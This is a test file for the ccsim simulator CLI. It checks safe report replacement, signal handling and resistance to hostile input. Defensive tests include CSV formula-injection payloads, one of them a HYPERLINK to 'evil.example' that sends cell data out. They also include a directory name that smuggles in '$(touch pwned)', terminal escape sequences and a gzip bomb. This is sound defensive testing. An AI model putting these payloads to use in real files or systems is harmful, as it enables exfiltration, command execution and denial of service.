// Nothing lost, nothing injected: --out replaces only what ccsim wrote, concurrent writers take
// turns, signals stop every mode within a second leaving the previous report, CSV cells from user
// input are not formulas, replay lines survive a POSIX shell, echoed input has no raw control
// character. Budget: about 40 s on 2 cores (the signal tests wait ~2 s each).
import { describe, expect, test, beforeAll } from 'vitest';
import { spawn, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { availableParallelism } from 'node:os';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { threadsFor } from '../../src/cli/pool.js';
import { ROOT, ccsim, tempDir } from './helpers.js';

const SHORT = 'test/fixtures/experiments/host-loss-short.yaml';
const STRICT = 'test/fixtures/experiments/host-loss-strict.yaml';

/** Every file below dir (relative paths) with its bytes, to compare before and after. */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (d: string, rel: string): void => {
    for (const e of readdirSync(d, { withFileTypes: true }).sort((a, b) =>
      a.name < b.name ? -1 : 1,
    )) {
      const p = join(d, e.name);
      const r = rel === '' ? e.name : `${rel}/${e.name}`;
      if (e.isDirectory()) {
        out.set(`${r}/`, '');
        walk(p, r);
      } else out.set(r, readFileSync(p, 'latin1'));
    }
  };
  walk(dir, '');
  return out;
}

/**
 * Waits until the process has used 1.5 s of CPU (loading the CLI takes about 0.4 s; the runs
 * below need far more), so that the signal lands in the simulation whatever the machine's load.
 * Each run below takes 6 s of CPU or more on a fast 2026 machine (the sweep with its default
 * single replication took 1.2 s there and ended before the signal): the signal cuts them short.
 */
async function intoTheSimulation(pid: number): Promise<void> {
  const deadline = Date.now() + 60_000;
  while (Date.now() < deadline) {
    let cpuS: number;
    try {
      const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
      cpuS = (Number(fields[11]) + Number(fields[12])) / 100; // utime + stime, in clock ticks
    } catch {
      await new Promise((r) => setTimeout(r, 3000)); // no /proc: a fixed wait
      return;
    }
    if (cpuS >= 1.5) return;
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('--out replaces only a directory ccsim wrote', () => {
  test('a directory that merely contains a file called run.json is refused; nothing deleted', () => {
    const dir = tempDir('fake-report');
    writeFileSync(join(dir, 'run.json'), '{"version": "0.1.0", "command": ["ccsim", "run"]}\n');
    writeFileSync(join(dir, 'important.txt'), 'precious');
    mkdirSync(join(dir, 'src'));
    writeFileSync(join(dir, 'src', 'main.c'), 'int main;');
    const before = snapshot(dir);
    for (const args of [
      ['run', SHORT, '--replications', '1'],
      ['sweep', SHORT, '--set', 'addp-timeout=5s,9s'],
      ['explore', SHORT, '--runs', '1'],
    ]) {
      const r = ccsim([...args, '--out', dir, '--quiet']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/refusing to replace/);
      expect(r.stderr).toMatch(/"important.txt"/);
      expect(snapshot(dir)).toEqual(before);
    }
  });

  test('a run.json that ccsim did not write is refused (exit 2, nothing deleted)', () => {
    const dir = tempDir('other-json');
    writeFileSync(join(dir, 'run.json'), '{"name": "my project"}\n');
    writeFileSync(join(dir, 'summary.csv'), 'mine\n');
    const before = snapshot(dir);
    const r = ccsim(['run', SHORT, '--replications', '1', '--out', dir, '--quiet']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/ccsim did not write/);
    expect(snapshot(dir)).toEqual(before);
  });

  test('six concurrent runs into one --out all succeed and leave one whole report, no temporary', async () => {
    const base = tempDir('concurrent');
    const out = join(base, 'r');
    const runs = Array.from(
      { length: 6 },
      (_, i) =>
        new Promise<{ code: number | null; stderr: string }>((done) => {
          const p = spawn(
            process.execPath,
            [
              join(ROOT, 'dist/src/cli/main.js'),
              'run',
              SHORT,
              '--replications',
              '1',
              '--seed',
              String(i + 1),
              '--out',
              out,
              '--quiet',
            ],
            { cwd: ROOT },
          );
          let stderr = '';
          p.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
          p.on('exit', (code) => done({ code, stderr }));
        }),
    );
    const results = await Promise.all(runs);
    for (const r of results) {
      expect(r.stderr).not.toMatch(/ENOENT|ENOTEMPTY|EEXIST/);
      expect(r.code, r.stderr).toBe(0);
    }
    expect(readdirSync(base)).toEqual(['r']);
    const run = JSON.parse(readFileSync(join(out, 'run.json'), 'utf8')) as {
      files: string[];
      seed: number;
    };
    expect(readdirSync(out).sort()).toEqual(run.files);
    const summary = readFileSync(join(out, 'summary.csv'), 'utf8').trim().split('\n');
    expect(summary).toHaveLength(2);
    expect(summary[1]!.split(',')[2]).toBe(String(run.seed));
  });

  test('an --out that cannot be written fails before the run, naming the path, exit 3', () => {
    const base = tempDir('unwritable');
    writeFileSync(join(base, 'file'), 'x');
    const out = join(base, 'file', 'r');
    const r = ccsim(['run', SHORT, '--replications', '1', '--out', out, '--quiet']);
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain(out);
    expect(r.stderr).not.toMatch(/\.tmp-|\n\s+at /);
    expect(readdirSync(base)).toEqual(['file']);
  });
});

describe('signals stop every mode within a second, writing nothing', () => {
  let previous: string;
  beforeAll(() => {
    previous = join(tempDir('previous'), 'r');
    const r = ccsim(['run', SHORT, '--replications', '1', '--out', previous, '--quiet']);
    expect(r.code, r.stderr).toBe(0);
  });

  const cases: { name: string; args: string[]; signal: NodeJS.Signals; code: number }[] = [
    {
      name: 'run --quiet --workers 1 (stdout not a terminal), SIGTERM',
      args: ['run', 'scenarios/day.yaml', '--quiet', '--workers', '1', '--replications', '100'],
      signal: 'SIGTERM',
      code: 143,
    },
    {
      name: 'sweep, SIGINT',
      args: ['sweep', 'scenarios/day.yaml', '--set', 'addp-timeout=5s,9s', '--replications', '60'],
      signal: 'SIGINT',
      code: 130,
    },
    {
      name: 'explore, SIGTERM',
      args: ['explore', 'scenarios/day.yaml', '--runs', '80'],
      signal: 'SIGTERM',
      code: 143,
    },
  ];
  for (const c of cases) {
    test(c.name, async () => {
      const base = tempDir('signal');
      const out = join(base, 'r');
      cpSync(previous, out, { recursive: true });
      const before = snapshot(base);
      const p = spawn(
        process.execPath,
        [join(ROOT, 'dist/src/cli/main.js'), ...c.args, '--out', out],
        { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] },
      );
      let stderr = '';
      p.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
      const exited = new Promise<{ code: number | null; at: number }>((done) =>
        p.on('exit', (code) => done({ code, at: Date.now() })),
      );
      await intoTheSimulation(p.pid!);
      const sentAt = Date.now();
      p.kill(c.signal);
      const { code, at } = await exited;
      expect(code, stderr).toBe(c.code);
      expect(at - sentAt).toBeLessThan(1000);
      expect(stderr).toMatch(/interrupted/);
      expect(snapshot(base)).toEqual(before); // previous report intact, no temporary left
    });
  }
});

describe('a closed standard output', () => {
  test('`ccsim … | head`: the reader goes away, ccsim stops quietly with 141 (SIGPIPE), no stack trace', async () => {
    const p = spawn(process.execPath, [join(ROOT, 'dist/src/cli/main.js'), 'schema', 'scenario'], {
      cwd: ROOT,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    p.stdout.destroy(); // the reader exits before ccsim writes its first byte
    let stderr = '';
    p.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
    const code = await new Promise<number | null>((done) => p.on('exit', done));
    expect(code, stderr).toBe(141);
    expect(stderr).toBe('');
  });
});

describe('nothing injected', () => {
  test('no CSV cell from user input starts with = + - @, tab or CR (sweep, sweep-stats, compare --csv, report CSVs)', () => {
    const base = tempDir('csv-injection');
    const sweep = join(base, 'sweep');
    const values = [
      '=1+1',
      "=HYPERLINK('http://evil.example/?x='&A1)",
      '+cmd|/c calc',
      '-2+3',
      '-=1',
      '+=1',
    ];
    const r = ccsim([
      'sweep',
      SHORT,
      '--replications',
      '1',
      '--set',
      `dr-peer-trunk=${values.join(',')}`,
      '--out',
      sweep,
      '--quiet',
    ]);
    expect(r.code, r.stderr).toBe(0);
    const a = join(base, '=1+1');
    const b = join(base, '@SUM(A1)');
    expect(ccsim(['run', SHORT, '--out', a, '--quiet']).code).toBe(0);
    cpSync(a, b, { recursive: true });
    const cmp = join(base, 'compare.csv');
    expect(ccsim(['compare', a, b, '--csv', cmp, '--quiet']).code).toBe(0);
    const files = [
      join(sweep, 'sweep.csv'),
      join(sweep, 'sweep-stats.csv'),
      cmp,
      ...readdirSync(a)
        .filter((f) => f.endsWith('.csv'))
        .map((f) => join(a, f)),
    ];
    let userCells = 0;
    for (const f of files) {
      const rows = parse(readFileSync(f, 'utf8'), { relax_column_count: true }) as string[][];
      for (const row of rows) {
        for (const cell of row) {
          if (values.some((v) => cell === `'${v}`)) userCells++;
          // A cell a spreadsheet would evaluate: starts with = + @ tab CR, or - not followed by a plain number.
          const evaluated =
            /^[=+@\t\r]/.test(cell) ||
            (cell.startsWith('-') && !/^-(?:\d+(?:\.\d*)?|\.\d+)(?:e[-+]?\d+)?$/i.test(cell));
          expect(evaluated, `${f}: ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
    expect(userCells).toBeGreaterThan(values.length); // the user's values are there, neutralised
    expect(readFileSync(join(sweep, 'sweep.csv'), 'utf8')).toContain("'=1+1,");
  });

  test('replay lines are single-quoted for POSIX shells: $(…) and backticks in a path do not run', () => {
    const base = tempDir('replay');
    const evil = join(base, "x$(touch pwned)`touch pwned2`'q");
    mkdirSync(evil);
    const topo = readFileSync(join(ROOT, STRICT), 'utf8').replace(
      '../../../scenarios/topologies/two-site-hot.yaml',
      join(ROOT, 'scenarios/topologies/two-site-hot.yaml'),
    );
    const scenario = join(evil, 'strict.yaml');
    writeFileSync(scenario, topo);
    const r = ccsim(['check', scenario]);
    expect(r.code, r.stderr).toBe(1);
    const replay = /replay: npx (ccsim .*)/.exec(r.stdout)?.[1];
    expect(replay).toBeDefined();
    // The replay line, pasted into sh with ccsim replaced by printf, gives back exactly the path.
    const sh = spawnSync('sh', ['-c', replay!.replace(/^ccsim /, "printf '%s\\n' ")], {
      cwd: base,
      encoding: 'utf8',
    });
    expect(sh.stdout.split('\n')[1]).toBe(scenario);
    expect(existsSync(join(base, 'pwned'))).toBe(false);
    expect(existsSync(join(base, 'pwned2'))).toBe(false);
  });

  test('control characters of the input are escaped in error messages', () => {
    const base = tempDir('escape');
    const f = join(base, 's.yaml');
    writeFileSync(
      f,
      `name: x\ntopology: ${join(ROOT, 'scenarios/topologies/two-site-hot.yaml')}\nduration: 1h\n"evil\u001b]0;owned\u0007\u001b[2J": 1\n`,
    );
    const r = ccsim(['run', f, '--out', join(base, 'r'), '--quiet']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('evil\\x1b]0;owned\\x07\\x1b[2J');

    expect(r.stderr).not.toMatch(/[\u0007\u001b]/);
    const flag = ccsim(['run', f, `--bogus\u001b[2J`]);
    expect(flag.code).toBe(2);

    expect(flag.stderr).not.toMatch(/[\u0007\u001b]/);
    expect(existsSync(join(base, 'r'))).toBe(false);
  });
});

/** A scenario on the shipped two-site topology (or `topology`) with `body` appended. */
function scenarioFile(
  dir: string,
  body: string,
  topology = join(ROOT, 'scenarios/topologies/two-site-hot.yaml'),
): string {
  const f = join(dir, 's.yaml');
  writeFileSync(f, `name: hostile\ntopology: ${topology}\nduration: 30m\nseed: 1\n${body}`);
  return f;
}

describe('hostile input at scale: exit 2, a clear message, nothing written', () => {
  const TRAFFIC = 'traffic: { calls-per-hour: 100, handle-time: 240s }\n';
  const cases: { name: string; body: string; topology?: string; message: RegExp }[] = [
    {
      name: 'calls-per-hour: 1e308',
      body: 'traffic: { calls-per-hour: 1e308, handle-time: 240s }\n',
      message: /traffic\.calls-per-hour.*3600000/,
    },
    {
      name: 'tserver-calls-per-hour: 1e12',
      body: 'traffic: { calls-per-hour: 10, handle-time: 240s, tserver-calls-per-hour: { ts-a: 1e12 } }\n',
      message: /tserver-calls-per-hour/,
    },
    {
      name: 'mtbf: 1ms (failure events per replication)',
      body: `${TRAFFIC}failures:\n  - { kind: host-crash, targets: [a-sip-1, b-sip-1], mtbf: 1ms, mttr: 1ms }\n`,
      message: /failures: too many random failures.*about 1800000/,
    },
    {
      name: 'wan-latency: 1h',
      body: TRAFFIC,
      topology: '1h',
      message: /wan-latency: too long/,
    },
    {
      name: 'wan-latency: 5s (a round trip of 10 s: no ADDP poll is answered in time)',
      body: TRAFFIC,
      topology: '5s',
      message:
        /network\.wan-latency: a round trip of 10s \(2 × wan-latency\) is not below addp-timeout 9s/,
    },
  ];
  for (const c of cases) {
    test(c.name, () => {
      const base = tempDir('hostile');
      let topology: string | undefined;
      if (c.topology !== undefined) {
        topology = join(base, 't.yaml');
        writeFileSync(
          topology,
          readFileSync(join(ROOT, 'scenarios/topologies/two-site-hot.yaml'), 'utf8').replace(
            'wan-latency: 30ms',
            `wan-latency: ${c.topology}`,
          ),
        );
      }
      const f = scenarioFile(base, c.body, topology);
      const before = snapshot(base);
      const r = ccsim(['run', f, '--out', join(base, 'r'), '--quiet']);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(c.message);
      expect(r.stderr).not.toMatch(/\n\s+at /);
      expect(snapshot(base)).toEqual(before);
    });
  }

  test('wan-latency: 4s (a round trip below every ADDP timeout) runs without an invariant failure', () => {
    const base = tempDir('latency');
    const topology = join(base, 't.yaml');
    writeFileSync(
      topology,
      readFileSync(join(ROOT, 'scenarios/topologies/two-site-hot.yaml'), 'utf8').replace(
        'wan-latency: 30ms',
        'wan-latency: 4s',
      ),
    );
    const r = ccsim([
      'run',
      SHORT,
      '--topology',
      topology,
      '--replications',
      '1',
      '--out',
      join(base, 'r'),
      '--quiet',
    ]);
    expect(r.stderr).not.toMatch(/invariant|scheduleAt/);
    expect([0, 1]).toContain(r.code);
  });

  test('130 000 unknown keys: the first issues, then a count; no stack trace', () => {
    const base = tempDir('keys');
    const f = scenarioFile(base, Array.from({ length: 130_000 }, (_, i) => `k${i}: 1\n`).join(''));
    const before = snapshot(base);
    const r = ccsim(['run', f, '--out', join(base, 'r'), '--quiet']);
    expect(r.code).toBe(2);
    const lines = r.stderr.trim().split('\n');
    expect(lines.length).toBeLessThanOrEqual(60);
    expect(r.stderr).toMatch(/more than 1000 issues: 129000 beyond the first 1000 were counted/);
    expect(r.stderr).toMatch(/unknown key "k0"/);
    expect(r.stderr).not.toMatch(/\n\s+at |RangeError/);
    expect(snapshot(base)).toEqual(before);
  });

  test('merge: shard.json with "done": null, and a gzip bomb as shard-data, are refused; nothing written', () => {
    const base = tempDir('merge-hostile');
    for (const i of [1, 2])
      expect(
        ccsim(['run', SHORT, '--shard', `${i}/2`, '--out', join(base, `s${i}`), '--quiet']).code,
      ).toBe(0);
    const manifest = JSON.parse(readFileSync(join(base, 's1', 'shard.json'), 'utf8')) as Record<
      string,
      unknown
    >;
    writeFileSync(join(base, 's1', 'shard.json'), JSON.stringify({ ...manifest, done: null }));
    const before = snapshot(base);
    const a = ccsim(['merge', join(base, 's1'), join(base, 's2'), '--out', join(base, 'all')]);
    expect(a.code, a.stderr).toBe(2);
    expect(a.stderr).toMatch(/shard\.json: done: wrong type \(expected a list; found null\)/);
    expect(a.stderr).not.toMatch(/TypeError|\n\s+at /);
    expect(snapshot(base)).toEqual(before);

    writeFileSync(join(base, 's1', 'shard.json'), JSON.stringify(manifest));
    const data = join(base, 's2', 'shard-data.bin');
    const good = readFileSync(data);
    // The scenario's frame replaced by 256 MiB of zeros, compressed: the frame's bound stops it.
    const bombFrame = gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 1 });
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bombFrame.length, 0);
    writeFileSync(data, Buffer.concat([Buffer.from('ccsim-shard-data/3\n'), length, bombFrame]));
    const bomb = snapshot(base);
    const b = ccsim(['merge', join(base, 's1'), join(base, 's2'), '--out', join(base, 'all')]);
    expect(b.code, b.stderr).toBe(2);
    expect(b.stderr).toMatch(/shard-data\.bin: .*decompresses to more than/);
    expect(snapshot(base)).toEqual(bomb);

    // Cut short in its last replication's frame (a copy that stopped early): refused, by name.
    writeFileSync(data, good.subarray(0, good.length - 100));
    const cut = ccsim(['merge', join(base, 's1'), join(base, 's2'), '--out', join(base, 'all')]);
    expect(cut.code, cut.stderr).toBe(2);
    expect(cut.stderr).toMatch(/shard-data\.bin: truncated: a frame at byte \d+ claims \d+ bytes/);
    expect(cut.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(join(base, 'all'))).toBe(false);

    // Another file in its place.
    writeFileSync(data, gzipSync(Buffer.from('{}')));
    const other = ccsim(['merge', join(base, 's1'), join(base, 's2'), '--out', join(base, 'all')]);
    expect(other.code, other.stderr).toBe(2);
    expect(other.stderr).toMatch(/shard-data\.bin: not shard data of this ccsim/);
    expect(existsSync(join(base, 'all'))).toBe(false);

    // Intact again: the same shards merge.
    writeFileSync(data, good);
    const ok = ccsim(['merge', join(base, 's1'), join(base, 's2'), '--out', join(base, 'all')]);
    expect(ok.code, ok.stderr).toBe(0);
  });

  test('--workers is capped at the cores and the number of tasks', () => {
    expect(threadsFor(1000, 4)).toBeLessThanOrEqual(Math.min(4, availableParallelism()));
    expect(threadsFor(1000, 1)).toBe(1);
    expect(threadsFor(1, 100)).toBe(1);
    const out = join(tempDir('workers'), 'r');
    const r = ccsim(['run', SHORT, '--workers', '1000', '--out', out, '--quiet']);
    expect(r.code, r.stderr).toBe(0);
  });
});

describe('explore', () => {
  test('schedules follow the content, not the path spelling; earlier reproducers are cleared', () => {
    const base = tempDir('explore-spelling');
    const a = join(base, 'a');
    mkdirSync(a);
    // An earlier explore's directory: its run.json, a reproducer and coverage.csv.
    writeFileSync(join(a, 'run.json'), '{"version": "0.1.0", "command": ["ccsim", "explore"]}\n');
    writeFileSync(join(a, 'repro-9.yaml'), 'name: old\n');
    writeFileSync(join(a, 'coverage.csv'), 'kind,target,phase,runs\n');
    const ra = ccsim([
      'explore',
      'test/fixtures/explore/icon.yaml',
      '--runs',
      '3',
      '--seed',
      '5',
      '--out',
      a,
      '--quiet',
    ]);
    const rb = ccsim([
      'explore',
      './test/fixtures/../fixtures/explore/icon.yaml',
      '--runs',
      '3',
      '--seed',
      '5',
      '--out',
      join(base, 'b'),
      '--quiet',
    ]);
    expect([0, 1]).toContain(ra.code);
    expect(rb.code).toBe(ra.code);
    expect(readFileSync(join(base, 'b', 'coverage.csv'), 'utf8')).toBe(
      readFileSync(join(a, 'coverage.csv'), 'utf8'),
    );
    expect(existsSync(join(a, 'repro-9.yaml'))).toBe(false);
  });
});
